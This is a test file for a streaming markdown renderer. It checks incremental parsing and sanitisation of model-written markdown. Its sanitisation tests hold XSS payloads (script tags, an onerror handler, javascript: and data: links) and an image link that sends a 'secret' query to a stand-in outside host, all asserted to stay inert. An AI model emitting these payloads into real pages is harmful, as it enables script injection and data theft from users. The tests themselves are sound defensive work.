import { describe, expect, it } from "vitest";

import { GrowingMarkdown, type Block } from "@/composables/markdown";

function render(text: string): Block[] {
  return new GrowingMarkdown().update(text);
}

function html(text: string): string {
  return render(text)
    .map((block) => (block.kind === "html" ? block.html : block.code))
    .join("");
}

const TEXT = `# Title

A paragraph with **bold** and \`code\`.

- one
- two

  more of two

\`\`\`python
print("a")

print("b")
\`\`\`

| a | b |
|---|:-:|
| 1 | 2 |

Setext
===

The end.`;

describe("a growing text", () => {
  it("ends as the same blocks as the whole text at once, wherever it was cut", () => {
    const whole = render(TEXT);
    expect(whole).toHaveLength(7);
    for (const size of [1, 2, 3, 7, 50]) {
      const growing = new GrowingMarkdown();
      let last: Block[] = [];
      for (let end = 0; end <= TEXT.length + size; end += size) last = growing.update(TEXT.slice(0, end));
      expect(last).toEqual(whole);
    }
  });

  it("keeps the blocks that are done as the same objects", () => {
    const growing = new GrowingMarkdown();
    const before = growing.update("One.\n\nTwo.\n\nThr");
    const after = growing.update("One.\n\nTwo.\n\nThree.");
    expect(after[0]).toBe(before[0]);
    expect(after[1]).toBe(before[1]);
    expect(after[2]).not.toEqual(before[2]);
  });

  it("begins again when the text was replaced", () => {
    const growing = new GrowingMarkdown();
    growing.update("One.\n\nTwo.\n\nThree.");
    expect(growing.update("Other.")).toEqual(render("Other."));
  });

  it("shows a code block while it is still open", () => {
    expect(render("Look:\n\n```js\nlet a")).toEqual([
      { key: 0, kind: "html", html: "<p>Look:</p>\n" },
      { key: 1, kind: "code", language: "js", code: "let a" },
    ]);
  });
});

describe("what a model could smuggle in", () => {
  it.each([
    ["<script>alert(1)</script>", /<script/],
    ["<img src=x onerror=alert(1)>", /<img/],
    ["[x](javascript:alert(1))", /href="javascript/],
    ["![x](https://elsewhere.example/?q=secret)", /<img/],
    ["[x](data:text/html,<script>alert(1)</script>)", /href="data/],
  ])("%s stays text", (text, forbidden) => {
    expect(html(text)).not.toMatch(forbidden);
  });

  it("links open in their own tab and tell nothing about us", () => {
    expect(html("[x](https://example.com)")).toMatch(/<a [^>]*target="_blank"[^>]*>/);
    expect(html("[x](https://example.com)")).toContain('rel="noopener noreferrer nofollow"');
  });

  it("table cells are aligned by class, since the page's policy forbids style attributes", () => {
    const table = html("| a |\n|--:|\n| 1 |");
    expect(table).toContain('class="align-right"');
    expect(table).not.toContain("style");
  });
});
